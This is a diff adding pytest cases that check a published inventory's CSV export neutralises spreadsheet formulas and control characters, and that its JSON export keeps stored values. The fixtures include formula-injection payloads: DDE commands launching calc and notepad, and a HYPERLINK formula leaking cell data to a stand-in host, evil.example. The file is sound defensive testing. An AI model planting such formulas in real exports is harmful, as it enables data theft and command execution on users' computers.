@@ -1,11 +1,15 @@
 """Hostile values in the published inventory: a link with another scheme than http(s)
-or mailto: is shown as text, never followed; markup in any text is shown as text.
+or mailto: is shown as text, never followed; markup in any text is shown as text; a CSV
+cell never starts a spreadsheet formula; inventory.json keeps every value as stored.
 
 The values are written straight into the store, past the loader's checks, because the
 pages must defend themselves whatever the store holds."""
 
 from __future__ import annotations
 
+import csv
+import io
+import json
 from html.parser import HTMLParser
 from pathlib import Path
 from typing import Any
@@ -142,3 +146,40 @@ def test_markup_in_any_text_is_shown_as_text_on_every_page(site: dict[str, bytes
     # The element's name, its definition and its purpose's name, each as it was written.
     row = row_texts(site["inventory.html"]).text("el-student-birth-date")
     assert row.count(MARKUP) == 3 and "\"'><b>ref</b>" in row
+
+
+# --- CSV and JSON ----------------------------------------------------------------------------
+
+
+def csv_cells(site: dict[str, bytes]) -> dict[str, dict[str, str]]:
+    text = site["inventory.csv"].decode("utf-8")
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert all(len(row) == 14 and None not in row for row in rows)  # every row parses whole
+    return {row["id"]: row for row in rows}
+
+
+def test_no_csv_cell_starts_a_formula_or_carries_a_control_character(site: dict[str, bytes]) -> None:
+    rows = csv_cells(site)
+    assert len(rows) == len(FORMULAS) + 1
+    assert rows["formula-sum"]["name"] == "'=1+2"
+    assert rows["formula-sum"]["definition"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert rows["formula-link"]["name"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
+    assert rows["formula-link"]["definition"] == "'+1 more"
+    assert rows["formula-minus"]["name"] == "'-2+3"
+    assert rows["formula-minus"]["definition"] == "' =cmd|' /C notepad'!A0"
+    assert rows["formula-cr"]["name"] == "' =1+1"
+    assert rows["controls"]["name"] == "Bidi evil name"
+    assert rows["controls"]["definition"] == "NUL ESC[31m red second line"
+    assert all(row["standard_ref"] == "'=2*3" for row in rows.values() if row["id"] != "student-birth-date")
+    for row in rows.values():
+        for cell in row.values():
+            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
+            assert not [c for c in cell if ord(c) < 32 or 0x7F <= ord(c) < 0xA0 or 0x202A <= ord(c) <= 0x202E]
+    assert rows["student-birth-date"]["name"] == MARKUP  # text that is no formula stays as it is
+
+
+def test_inventory_json_keeps_the_values_as_stored(site: dict[str, bytes]) -> None:
+    elements = {e["id"]: e for e in json.loads(site["inventory.json"])["elements"]}
+    for element_id, name, definition in FORMULAS:
+        assert elements[element_id]["name"] == name and elements[element_id]["definition"] == definition
+        assert elements[element_id]["standard_ref"] == "=2*3"
